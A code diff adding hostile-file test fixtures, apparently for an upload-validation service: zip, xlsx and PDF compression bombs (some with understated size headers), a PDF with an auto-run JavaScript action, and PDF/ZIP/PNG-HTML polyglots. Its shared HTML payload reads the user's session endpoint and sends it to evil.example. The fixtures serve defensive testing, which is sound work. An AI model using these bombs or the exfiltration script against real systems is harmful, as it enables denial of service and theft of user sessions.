@@ -1,5 +1,7 @@
+import { randomBytes } from 'node:crypto';
+import { createDeflate, createDeflateRaw, deflateRawSync, crc32 as zlibCrc32 } from 'node:zlib';
 import CFB from 'cfb';
-import { PDFDocument } from 'pdf-lib';
+import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
 
 /** A small valid PDF with one page. */
 export async function pdfFixture(text = 'materials'): Promise<Buffer> {
@@ -41,24 +43,33 @@ function crc32(bytes: Buffer): number {
   return (crc ^ 0xffffffff) >>> 0;
 }
 
-/** A store-only zip (no compression): local headers, the data, then the central directory. */
-export function zipFixture(entries: Record<string, string | Buffer>): Buffer {
+/** One entry of a hand-made zip: its name, how it is stored (0 stored, 8 deflated), its CRC and size, and the bytes as stored. */
+interface ZipItem {
+  name: string;
+  method: 0 | 8;
+  crc: number;
+  size: number;
+  payload: Buffer;
+  /** The uncompressed size the headers declare (a liar's zip declares less than it holds). */
+  declaredSize?: number;
+}
+
+function buildZip(items: readonly ZipItem[]): Buffer {
   const locals: Buffer[] = [];
   const centrals: Buffer[] = [];
   let offset = 0;
-  for (const [name, content] of Object.entries(entries)) {
-    const data = Buffer.isBuffer(content) ? content : Buffer.from(content);
-    const fileName = Buffer.from(name);
-    const crc = crc32(data);
+  for (const item of items) {
+    const fileName = Buffer.from(item.name);
+    const declared = item.declaredSize ?? item.size;
     const local = Buffer.alloc(30);
     local.writeUInt32LE(0x04034b50, 0);
     local.writeUInt16LE(20, 4);
     local.writeUInt16LE(0x0800, 6); // UTF-8 names
-    local.writeUInt16LE(0, 8); // stored
+    local.writeUInt16LE(item.method, 8);
     local.writeUInt32LE(0, 10); // time, date
-    local.writeUInt32LE(crc, 14);
-    local.writeUInt32LE(data.length, 18);
-    local.writeUInt32LE(data.length, 22);
+    local.writeUInt32LE(item.crc, 14);
+    local.writeUInt32LE(item.payload.length, 18);
+    local.writeUInt32LE(declared, 22);
     local.writeUInt16LE(fileName.length, 26);
     local.writeUInt16LE(0, 28);
     const central = Buffer.alloc(46);
@@ -66,25 +77,45 @@ export function zipFixture(entries: Record<string, string | Buffer>): Buffer {
     central.writeUInt16LE(20, 4);
     central.writeUInt16LE(20, 6);
     central.writeUInt16LE(0x0800, 8);
-    central.writeUInt16LE(0, 10);
+    central.writeUInt16LE(item.method, 10);
     central.writeUInt32LE(0, 12);
-    central.writeUInt32LE(crc, 16);
-    central.writeUInt32LE(data.length, 20);
-    central.writeUInt32LE(data.length, 24);
+    central.writeUInt32LE(item.crc, 16);
+    central.writeUInt32LE(item.payload.length, 20);
+    central.writeUInt32LE(declared, 24);
     central.writeUInt16LE(fileName.length, 28);
     central.writeUInt32LE(offset, 42);
-    locals.push(local, fileName, data);
+    locals.push(local, fileName, item.payload);
     centrals.push(central, fileName);
-    offset += local.length + fileName.length + data.length;
+    offset += local.length + fileName.length + item.payload.length;
   }
   const directory = Buffer.concat(centrals);
   const end = Buffer.alloc(22);
   end.writeUInt32LE(0x06054b50, 0);
-  end.writeUInt16LE(centrals.length / 2, 8);
-  end.writeUInt16LE(centrals.length / 2, 10);
+  end.writeUInt16LE(items.length, 8);
+  end.writeUInt16LE(items.length, 10);
   end.writeUInt32LE(directory.length, 12);
   end.writeUInt32LE(offset, 16);
   return Buffer.concat([...locals, directory, end]);
+}
+
+/** A store-only zip (no compression): local headers, the data, then the central directory. */
+export function zipFixture(entries: Record<string, string | Buffer>): Buffer {
+  return buildZip(
+    Object.entries(entries).map(([name, content]) => {
+      const data = Buffer.isBuffer(content) ? content : Buffer.from(content);
+      return { name, method: 0, crc: crc32(data), size: data.length, payload: data };
+    }),
+  );
+}
+
+/** A zip whose entries are deflated, as Office writes them (pictures too: they just do not shrink). */
+export function deflatedZipFixture(entries: Record<string, string | Buffer>): Buffer {
+  return buildZip(
+    Object.entries(entries).map(([name, content]) => {
+      const data = Buffer.isBuffer(content) ? content : Buffer.from(content);
+      return { name, method: 8, crc: crc32(data), size: data.length, payload: deflateRawSync(data, { level: 6 }) };
+    }),
+  );
 }
 
 const CONTENT_TYPES =
@@ -172,3 +203,222 @@ export function textPptxFixture(slides: readonly string[]): Buffer {
     `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels.join('')}</Relationships>`;
   return zipFixture(entries);
 }
+
+// ————— Hostile files (issue 16): compression bombs, scripts in PDFs, polyglots —————
+
+const MiB = 1024 * 1024;
+
+/** `times` copies of `chunk`, deflated as a stream (never held unpacked): the bytes, their CRC-32 and their size. */
+async function deflatedRun(chunk: Buffer, times: number, format: 'raw' | 'zlib'): Promise<{ payload: Buffer; crc: number; size: number }> {
+  const deflater = format === 'raw' ? createDeflateRaw({ level: 9 }) : createDeflate({ level: 9 });
+  const out: Buffer[] = [];
+  deflater.on('data', (piece: Buffer) => out.push(piece));
+  const ended = new Promise((resolve, reject) => {
+    deflater.on('end', resolve);
+    deflater.on('error', reject);
+  });
+  let crc = 0;
+  for (let k = 0; k < times; k++) {
+    crc = zlibCrc32(chunk, crc);
+    if (!deflater.write(chunk)) await new Promise((resolve) => deflater.once('drain', resolve));
+  }
+  deflater.end();
+  await ended;
+  return { payload: Buffer.concat(out), crc: crc >>> 0, size: chunk.length * times };
+}
+
+/**
+ * The zip bomb of issue 16: a real-looking .pptx (presentation, relationships) with `slides` slides, each `bytesPerSlide`
+ * of one repeated byte (or, with `xml`, a slide whose one text run is that long). 40 × 16 MiB packs into about 700 KB.
+ * With `lie`, the headers declare each slide a tenth of its size (yauzl and the sandbox must count, not trust).
+ */
+export async function pptxBombFixture(options: { slides?: number; bytesPerSlide?: number; xml?: boolean; lie?: boolean } = {}): Promise<Buffer> {
+  const { slides = 40, bytesPerSlide = 16 * MiB, xml = false, lie = false } = options;
+  let run: { payload: Buffer; crc: number; size: number };
+  if (xml) {
+    // <p:sld><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>AAAA…</a:t></a:r></a:p>…
+    const open = '<?xml version="1.0" encoding="UTF-8"?><p:sld xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>';
+    const close = '</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>';
+    const body = Buffer.alloc(MiB, 0x41);
+    const whole = Buffer.from(open);
+    const deflater = createDeflateRaw({ level: 9 });
+    const out: Buffer[] = [];
+    deflater.on('data', (piece: Buffer) => out.push(piece));
+    const ended = new Promise((resolve) => deflater.on('end', resolve));
+    let crc = zlibCrc32(whole);
+    deflater.write(whole);
+    let size = whole.length;
+    for (let k = 0; k < Math.floor((bytesPerSlide - open.length - close.length) / MiB); k++) {
+      crc = zlibCrc32(body, crc);
+      size += body.length;
+      if (!deflater.write(body)) await new Promise((resolve) => deflater.once('drain', resolve));
+    }
+    crc = zlibCrc32(Buffer.from(close), crc);
+    size += close.length;
+    deflater.end(Buffer.from(close));
+    await ended;
+    run = { payload: Buffer.concat(out), crc: crc >>> 0, size };
+  } else {
+    run = await deflatedRun(Buffer.alloc(MiB, 0x41), Math.round(bytesPerSlide / MiB), 'raw');
+  }
+  const text = (value: string): ZipItem => {
+    const data = Buffer.from(value);
+    return { name: '', method: 8, crc: crc32(data), size: data.length, payload: deflateRawSync(data) };
+  };
+  const ids = Array.from({ length: slides }, (_, k) => `<p:sldId id="${256 + k}" r:id="rId${k + 2}"/>`).join('');
+  const rels = Array.from({ length: slides }, (_, k) => `<Relationship Id="rId${k + 2}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/slide" Target="slides/slide${k + 1}.xml"/>`).join('');
+  const items: ZipItem[] = [
+    { ...text(CONTENT_TYPES), name: '[Content_Types].xml' },
+    {
+      ...text(`<?xml version="1.0" encoding="UTF-8"?><p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><p:sldIdLst>${ids}</p:sldIdLst></p:presentation>`),
+      name: 'ppt/presentation.xml',
+    },
+    { ...text(`<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels}</Relationships>`), name: 'ppt/_rels/presentation.xml.rels' },
+  ];
+  for (let k = 1; k <= slides; k++) items.push({ name: `ppt/slides/slide${k}.xml`, method: 8, crc: run.crc, size: run.size, payload: run.payload, declaredSize: lie ? Math.floor(run.size / 10) : undefined });
+  return buildZip(items);
+}
+
+/**
+ * A PowerPoint file as PowerPoint writes it: deflated XML (slides, layouts, a theme) and pictures that do not shrink
+ * (random bytes, as JPEG data is). The upload check must let it through.
+ */
+export function realisticPptxFixture(slides: readonly string[], pictures = 4, pictureBytes = 400 * 1024): Buffer {
+  const base = textPptxFixtureEntries(slides);
+  const layout = `<?xml version="1.0" encoding="UTF-8"?><p:sldLayout xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"><p:cSld><p:spTree>${Array.from({ length: 40 }, (_, k) => `<p:sp><p:nvSpPr><p:cNvPr id="${k + 2}" name="占位符 ${k}"/></p:nvSpPr><p:spPr><a:xfrm><a:off x="${k * 9144}" y="${k * 4572}"/><a:ext cx="8229600" cy="1143000"/></a:xfrm></p:spPr></p:sp>`).join('')}</p:spTree></p:cSld></p:sldLayout>`;
+  for (let k = 1; k <= 11; k++) base[`ppt/slideLayouts/slideLayout${k}.xml`] = layout;
+  base['ppt/theme/theme1.xml'] = `<?xml version="1.0" encoding="UTF-8"?><a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Office 主题">${'<a:srgbClr val="4472C4"/>'.repeat(2000)}</a:theme>`;
+  for (let k = 1; k <= pictures; k++) base[`ppt/media/image${k}.jpeg`] = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(pictureBytes)]);
+  return deflatedZipFixture(base);
+}
+
+/** The entries textPptxFixture zips (slides, presentation, relationships), to build variants from. */
+function textPptxFixtureEntries(slides: readonly string[]): Record<string, string | Buffer> {
+  const zip = textPptxFixture(slides);
+  const entries: Record<string, string | Buffer> = {};
+  // Walk the local headers of the store-only zip textPptxFixture made.
+  let at = 0;
+  while (zip.readUInt32LE(at) === 0x04034b50) {
+    const size = zip.readUInt32LE(at + 18);
+    const nameLength = zip.readUInt16LE(at + 26);
+    const name = zip.toString('utf8', at + 30, at + 30 + nameLength);
+    entries[name] = zip.subarray(at + 30 + nameLength, at + 30 + nameLength + size);
+    at += 30 + nameLength + size;
+  }
+  return entries;
+}
+
+/**
+ * An .xlsx bomb for the expert import: a real workbook whose one sheet holds `rows` copies of the same row (header
+ * row first), deflated to a few hundred KB — exceljs would build every row in memory. With `lie`, the headers declare a
+ * tenth of the sheet's size.
+ */
+export async function xlsxBombFixture(rows = 200_000, lie = false): Promise<Buffer> {
+  const head =
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' +
+    '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c><c r="B1" t="inlineStr"><is><t>手机</t></is></c></row>';
+  // Every row is the same row 2 (exceljs builds each one before it files them by number): it packs about 1,000×.
+  const cells = 'ABCDEFGHIJ'.split('').map((c) => `<c r="${c}2" t="inlineStr"><is><t>张三丰张三丰张三丰</t></is></c>`).join('');
+  const perChunk = 1000;
+  const deflater = createDeflateRaw({ level: 9 });
+  const out: Buffer[] = [];
+  deflater.on('data', (piece: Buffer) => out.push(piece));
+  const ended = new Promise((resolve) => deflater.on('end', resolve));
+  let crc = zlibCrc32(Buffer.from(head));
+  let size = Buffer.byteLength(head);
+  deflater.write(head);
+  for (let first = 2; first <= rows + 1; first += perChunk) {
+    let text = '';
+    for (let r = first; r < Math.min(first + perChunk, rows + 2); r++) text += `<row r="2">${cells}</row>`;
+    const chunk = Buffer.from(text);
+    crc = zlibCrc32(chunk, crc);
+    size += chunk.length;
+    if (!deflater.write(chunk)) await new Promise((resolve) => deflater.once('drain', resolve));
+  }
+  const tail = Buffer.from('</sheetData></worksheet>');
+  crc = zlibCrc32(tail, crc);
+  size += tail.length;
+  deflater.end(tail);
+  await ended;
+  const small = (name: string, value: string): ZipItem => {
+    const data = Buffer.from(value);
+    return { name, method: 8, crc: crc32(data), size: data.length, payload: deflateRawSync(data) };
+  };
+  return buildZip([
+    small(
+      '[Content_Types].xml',
+      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
+    ),
+    small('_rels/.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
+    small(
+      'xl/workbook.xml',
+      '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="专家" sheetId="1" r:id="rId1"/></sheets></workbook>',
+    ),
+    small('xl/_rels/workbook.xml.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
+    { name: 'xl/worksheets/sheet1.xml', method: 8, crc: crc >>> 0, size, payload: Buffer.concat(out), declaredSize: lie ? Math.floor(size / 10) : undefined },
+  ]);
+}
+
+/** A hand-written PDF from its objects (`stream` objects given as [dictionary, data]), with a correct xref table. */
+function handPdf(objects: ReadonlyArray<string | [string, Buffer]>, trailerExtra = ''): Buffer {
+  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
+  let length = parts[0]!.length;
+  const offsets: number[] = [];
+  objects.forEach((object, i) => {
+    offsets.push(length);
+    const piece =
+      typeof object === 'string'
+        ? Buffer.from(`${i + 1} 0 obj\n${object}\nendobj\n`, 'latin1')
+        : Buffer.concat([Buffer.from(`${i + 1} 0 obj\n${object[0].replace('%LENGTH%', String(object[1].length))}\nstream\n`, 'latin1'), object[1], Buffer.from('\nendstream\nendobj\n', 'latin1')]);
+    parts.push(piece);
+    length += piece.length;
+  });
+  const xref = length;
+  parts.push(
+    Buffer.from(
+      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}` +
+        `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${xref}\n%%EOF\n`,
+      'latin1',
+    ),
+  );
+  return Buffer.concat(parts);
+}
+
+/**
+ * A PDF whose one page's content stream is a deflate bomb: `bytes` of spaces (valid, empty page content) packed about
+ * 1,000 times. pdf.js inflates a page's content to read its text, into memory outside the JS heap.
+ */
+export async function pdfDeflateBombFixture(bytes = 128 * MiB): Promise<Buffer> {
+  const run = await deflatedRun(Buffer.alloc(MiB, 0x20), Math.round(bytes / MiB), 'zlib');
+  return handPdf([
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
+    ['<< /Length %LENGTH% /Filter /FlateDecode >>', run.payload],
+  ]);
+}
+
+/** The payload after `%%EOF` of the hostile PDFs: a page that would run script if a browser rendered it. */
+export const HTML_PAYLOAD = '<!DOCTYPE html><html><body><script>fetch("/api/v1/auth/me").then(r=>r.text()).then(t=>new Image().src="//evil.example/?"+t)</script></body></html>\n';
+
+/** A PDF that runs JavaScript when opened (/OpenAction) and has an HTML page after its %%EOF. */
+export async function openActionPdfFixture(): Promise<Buffer> {
+  const doc = await PDFDocument.create();
+  doc.addPage([200, 200]);
+  const action = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(document.domain); this.submitForm("https://evil.example/");') });
+  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
+  return Buffer.concat([Buffer.from(await doc.save({ useObjectStreams: false })), Buffer.from(HTML_PAYLOAD)]);
+}
+
+/** A file that is a PDF (it starts with %PDF and parses) and a ZIP (its central directory is at the end) holding HTML. */
+export async function pdfZipPolyglotFixture(): Promise<Buffer> {
+  return Buffer.concat([await pdfFixture('polyglot'), zipFixture({ 'index.html': HTML_PAYLOAD })]);
+}
+
+/** A PDF that is also an HTML page (the markup after the PDF's own bytes, browsers render from the first tag they find). */
+export async function pdfHtmlPolyglotFixture(): Promise<Buffer> {
+  return Buffer.concat([await pdfFixture('polyglot'), Buffer.from(HTML_PAYLOAD)]);
+}
+
+/** A PNG that is also HTML: a valid 1×1 picture followed by a page with a script. */
+export const PNG_HTML_POLYGLOT = Buffer.concat([PNG_1x1, Buffer.from(HTML_PAYLOAD)]);
